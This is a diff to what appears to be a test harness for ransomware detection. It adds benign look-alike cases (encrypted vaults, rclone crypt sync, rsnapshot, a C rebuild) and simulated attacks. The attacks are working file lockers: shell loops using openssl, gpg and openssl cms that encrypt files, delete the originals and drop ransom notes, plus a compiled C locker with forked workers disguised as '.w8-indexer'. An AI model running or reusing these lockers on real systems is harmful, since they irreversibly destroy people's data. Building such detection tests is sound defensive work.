@@ -1157,3 +1157,159 @@ sc_b50_ssh_jpegoptim_photos() {
   sshx tomas 'jpegoptim --strip-all --all-progressive -q ~/Pictures/*/*.jpg; ls ~/Pictures/*/*.jpg | wc -l'
   rm -rf /home/tomas/Pictures
 }
+
+# ---- thirteenth batch, look-alikes: a user moving his documents into a gocryptfs vault (the FUSE daemon writes
+# encrypted, random-named files into the cipher dir while mv deletes the originals), rclone sync to a local crypt remote
+# (encrypted names and content elsewhere, originals kept), rsnapshot rotating hard-link trees from root's cron, and a
+# developer's make clean && make of a C project of 300 objects
+pre_b51_ssh_gocryptfs_vault_move() {
+  rm -rf /home/mkowalski/.vault-cipher /home/mkowalski/vault
+  su - mkowalski -c 'umask 077; echo "v4ult-mk-2026" > ~/.vault-pw; mkdir -p ~/.vault-cipher ~/vault; gocryptfs -q -init -passfile ~/.vault-pw ~/.vault-cipher' >/dev/null 2>&1
+}
+sc_b51_ssh_gocryptfs_vault_move() {
+  sshx mkowalski 'gocryptfs -q -passfile ~/.vault-pw ~/.vault-cipher ~/vault && mv ~/Documents/* ~/vault/ && find ~/vault -type f | wc -l && sync && fusermount -u ~/vault; find ~/.vault-cipher -type f | wc -l'
+  sleep 1; fusermount -u /home/mkowalski/vault 2>/dev/null
+  rm -rf /home/mkowalski/.vault-cipher /home/mkowalski/vault /home/mkowalski/.vault-pw
+}
+pre_b52_ssh_rclone_crypt_sync() {
+  rm -rf /home/priya/backup-crypt /home/priya/.config/rclone
+  su - priya -c 'rclone config create secret crypt remote=/home/priya/backup-crypt password=$(rclone obscure pr1ya-crypt) password2=$(rclone obscure s4lt-pr) >/dev/null'
+}
+sc_b52_ssh_rclone_crypt_sync() {
+  sshx priya 'rclone sync ~/work secret:work && rclone ls secret:work | wc -l && find ~/backup-crypt -type f | head -2'
+  rm -rf /home/priya/backup-crypt /home/priya/.config/rclone
+}
+pre_b53_cron_rsnapshot_rotate() {
+  rm -rf /srv/snapshots; mkdir -p /srv/snapshots
+  printf 'config_version\t1.2\nsnapshot_root\t/srv/snapshots/\nno_create_root\t1\ncmd_cp\t/bin/cp\ncmd_rm\t/bin/rm\ncmd_rsync\t/usr/bin/rsync\nretain\tdaily\t4\nlockfile\t/run/rsnapshot-nas.pid\nbackup\t/srv/nas/share/\tnas/\nbackup\t/var/www/shop/uploads/\tweb/\nbackup\t/home/priya/work/\tpriya/\n' > /etc/rsnapshot-nas.conf
+  for i in 1 2 3; do rsnapshot -c /etc/rsnapshot-nas.conf daily >/dev/null 2>&1; done
+  # a day's work on the share: 30 files edited, 6 added, so the night's rsync has something to copy
+  find /srv/nas/share -type f | head -30 | while read -r f; do head -c 3000 /dev/urandom >> "$f"; done
+  for i in 1 2 3 4 5 6; do head -c 9000 /dev/urandom > /srv/nas/share/scans_1/new_scan_$i.pdf; done
+}
+sc_b53_cron_rsnapshot_rotate() {
+  rm -f /tmp/.b53-done
+  read m h < <(cron_at_next_minute)
+  echo "$m $h * * * root /usr/bin/rsnapshot -c /etc/rsnapshot-nas.conf daily >/dev/null 2>&1; touch /tmp/.b53-done" > /etc/cron.d/rsnapshot-nas
+  wait_cron /tmp/.b53-done; sleep 2; rm -f /etc/cron.d/rsnapshot-nas
+  ls /srv/snapshots >> $CASE/facts
+  rm -rf /srv/snapshots /etc/rsnapshot-nas.conf
+}
+pre_b54_ssh_make_clean_rebuild() {
+  rm -rf /home/tomas/proj; mkdir -p /home/tomas/proj/src
+  for i in $(seq -w 1 300); do printf '#include "util.h"\nint f%s(int x) { return util_mix(x, %d); }\n' $i $((10#$i)) > /home/tomas/proj/src/m$i.c; done
+  printf 'static inline int util_mix(int a, int b) { return a * 31 + b; }\n' > /home/tomas/proj/src/util.h
+  printf 'int f001(int);\nint main(void) { return f001(1) & 1; }\n' > /home/tomas/proj/src/main.c
+  printf 'SRC := $(wildcard src/*.c)\nOBJ := $(SRC:src/%%.c=obj/%%.o)\nbin/app: $(OBJ)\n\t@mkdir -p bin\n\t$(CC) -o $@ $(OBJ)\nobj/%%.o: src/%%.c src/util.h\n\t@mkdir -p obj\n\t$(CC) -O1 -c -o $@ $<\nclean:\n\trm -rf obj bin\n.PHONY: clean\n' > /home/tomas/proj/Makefile
+  chown -R tomas: /home/tomas/proj
+  su - tomas -c 'make -s -C ~/proj -j2 >/dev/null 2>&1'
+}
+sc_b54_ssh_make_clean_rebuild() {
+  sshx tomas 'cd ~/proj && make clean && make -s -j2 && ls obj | wc -l'
+  rm -rf /home/tomas/proj
+}
+
+# ---- thirteenth batch, attacks: a locker inside a container-like root (unshare + chroot, started by a root daemon with
+# no login uid, the share bind-mounted into the chroot: the log has the container's paths), a locker queued with at by a
+# logged-in user, and asymmetric per-file encryption with openssl cms -encrypt to the attacker's certificate
+pre_h35_root_unshare_chroot_locker() {
+  rm -rf /srv/rootfs; mkdir -p /srv/rootfs/{bin,usr/bin,data,tmp,proc,dev,lib/x86_64-linux-gnu,lib64}
+  for b in /bin/dash /usr/bin/openssl /usr/bin/find /bin/rm /bin/cat; do cp "$b" /srv/rootfs/usr/bin/; done
+  ln -s dash /srv/rootfs/usr/bin/sh; for b in sh rm cat; do ln -s ../usr/bin/$b /srv/rootfs/bin/$b; done
+  for l in $(ldd /usr/bin/openssl /usr/bin/find /bin/dash /bin/rm | grep -o '/lib[^ ]*' | sort -u); do cp "$l" /srv/rootfs$l; done
+  cat > /srv/rootfs/run.sh <<'S'
+find /data -type f | while read -r f; do openssl enc -aes-256-ctr -pbkdf2 -pass pass:ctr-k3y -in "$f" -out "$f.ctnr" && rm -f "$f"; done
+find /data -type d | while read -r d; do echo "Your NAS is encrypted. ctnr@onion.example" > "$d/READ-ME-CTNR.txt"; done
+S
+}
+sc_h35_root_unshare_chroot_locker() {
+  echo "files $(find /srv/nas/share -type f | wc -l) dirs $(find /srv/nas/share -type d | wc -l)" > $CASE/facts
+  rm -f /tmp/.h35-done
+  # an exploited root service (no login uid) starts a throw-away container over the share: new mount and pid namespaces
+  setsid sh -c 'unshare --mount --pid --fork sh -c "mount --bind /srv/nas/share /srv/rootfs/data && exec chroot /srv/rootfs /bin/sh /run.sh"; touch /tmp/.h35-done' </dev/null >/dev/null 2>&1 &
+  wait_cron /tmp/.h35-done; sleep 1
+  rm -rf /srv/rootfs /tmp/.h35-done
+}
+pre_h36_ssh_at_job_locker() { pgrep -x atd >/dev/null || /usr/sbin/atd 3>&- 9>&-; }
+sc_h36_ssh_at_job_locker() {
+  echo "files $(find /home/priya/work -type f | wc -l) dirs $(find /home/priya/work -mindepth 1 -type d | wc -l)" > $CASE/facts
+  rm -f /tmp/.h36-done
+  # priya queues the job and logs out; atd runs it a moment later
+  sshx priya 'cat > /var/tmp/.sync-cache.sh <<"S"
+for f in $(find ~/work -type f); do gpg --batch --yes --pinentry-mode loopback --passphrase "At-j0b" -c -o "$f.atq" "$f" && rm -f "$f"; done
+for d in ~/work/*/; do echo "files locked. atq@onion.example" > "$d/ATQ-RECOVER.txt"; done
+rm -f /var/tmp/.sync-cache.sh; touch /tmp/.h36-done
+S
+echo "sh /var/tmp/.sync-cache.sh" | at now 2>&1'
+  wait_cron /tmp/.h36-done; sleep 1
+  rm -f /tmp/.h36-done
+}
+pre_h37_ssh_openssl_cms_pubkey() {
+  rm -rf /var/tmp/.cm; install -d -m 755 /var/tmp/.cm
+  openssl req -x509 -newkey rsa:2048 -nodes -keyout /var/tmp/.cm/k.pem -out /var/tmp/.cm/pub.crt -subj "/CN=p7" -days 30 >/dev/null 2>&1
+  rm -f /var/tmp/.cm/k.pem; chmod 644 /var/tmp/.cm/pub.crt
+}
+sc_h37_ssh_openssl_cms_pubkey() {
+  echo "files $(find /home/mkowalski/Documents -type f | wc -l) dirs $(find /home/mkowalski/Documents -mindepth 1 -type d | wc -l)" > $CASE/facts
+  sshx mkowalski 'cp /var/tmp/.cm/pub.crt /dev/shm/.p; find ~/Documents -type f | while read -r f; do openssl cms -encrypt -binary -aes256 -outform DER -in "$f" -out "$f.p7e" /dev/shm/.p && rm -f "$f"; done; for d in ~/Documents/*/; do echo "Encrypted with RSA-2048. Only we hold the key: p7e@onion.example" > "$d/P7E-README.txt"; done; rm -f /dev/shm/.p'
+  rm -rf /var/tmp/.cm
+}
+
+# ---- thirteenth batch, optional attack: a compiled locker that forks 8 workers (no exec: the workers are the same
+# binary), each taking the next directory of the share; the parent writes the notes
+pre_h38_ssh_sudo_forked_workers() {
+  install -d -m 700 /root/.h38
+  cat > /root/.h38/w.c <<'C'
+#include <dirent.h>
+#include <fcntl.h>
+#include <stdio.h>
+#include <stdlib.h>
+#include <string.h>
+#include <sys/stat.h>
+#include <sys/wait.h>
+#include <unistd.h>
+static void lock(const char *p) {
+  struct stat st; if (stat(p, &st) || st.st_size <= 0) return;
+  unsigned char *b = malloc(st.st_size); int fd = open(p, O_RDONLY); if (fd < 0) { free(b); return; }
+  ssize_t r = read(fd, b, st.st_size); close(fd); if (r != st.st_size) { free(b); return; }
+  unsigned int s = 0x9e3779b9u; for (off_t i = 0; i < st.st_size; i++) { s = s * 1103515245u + 12345u; b[i] ^= (unsigned char)(s >> 16); }
+  fd = open(p, O_WRONLY | O_TRUNC); if (fd >= 0) { write(fd, b, st.st_size); close(fd); }
+  char q[4200]; snprintf(q, sizeof q, "%s.w8x", p); rename(p, q); free(b);
+}
+static void walk(const char *d) {
+  DIR *dir = opendir(d); struct dirent *e; char p[4096]; struct stat st; if (!dir) return;
+  while ((e = readdir(dir))) {
+    if (e->d_name[0] == '.' || strstr(e->d_name, ".w8x") || !strcmp(e->d_name, "W8-DECRYPT.txt")) continue;
+    snprintf(p, sizeof p, "%s/%s", d, e->d_name); if (lstat(p, &st)) continue;
+    if (S_ISDIR(st.st_mode)) walk(p); else if (S_ISREG(st.st_mode)) lock(p);
+  }
+  closedir(dir);
+}
+int main(int c, char **v) {
+  char *dirs[256]; int n = 0;
+  for (int a = 1; a < c; a++) {
+    DIR *dir = opendir(v[a]); struct dirent *e; if (!dir) continue;
+    while ((e = readdir(dir)) && n < 256) if (e->d_type == DT_DIR && e->d_name[0] != '.') {
+      dirs[n] = malloc(4096); snprintf(dirs[n], 4096, "%s/%s", v[a], e->d_name); n++; }
+    closedir(dir);
+  }
+  int running = 0;
+  for (int i = 0; i < n; i++) {
+    if (running == 8) { wait(NULL); running--; }
+    pid_t pid = fork();
+    if (pid == 0) { walk(dirs[i]); _exit(0); }
+    if (pid > 0) running++;
+  }
+  while (running-- > 0) wait(NULL);
+  for (int i = 0; i < n; i++) { char p[4200]; snprintf(p, sizeof p, "%s/W8-DECRYPT.txt", dirs[i]);
+    FILE *f = fopen(p, "w"); if (f) { fputs("8 workers encrypted this share. w8@onion.example\n", f); fclose(f); } }
+  return 0;
+}
+C
+  gcc -O2 -o /root/.h38/w /root/.h38/w.c && install -m 755 /root/.h38/w /var/tmp/.w8-indexer; rm -rf /root/.h38
+}
+sc_h38_ssh_sudo_forked_workers() {
+  echo "files $(( $(find /srv/nas/share -type f | wc -l) + $(find /var/www/shop/uploads -type f | wc -l) )) dirs $(( $(find /srv/nas/share -mindepth 1 -type d | wc -l) + $(find /var/www/shop/uploads -mindepth 1 -type d | wc -l) ))" > $CASE/facts
+  sshx deploy 'sudo /var/tmp/.w8-indexer /srv/nas/share /var/www/shop/uploads'
+  rm -f /var/tmp/.w8-indexer
+}
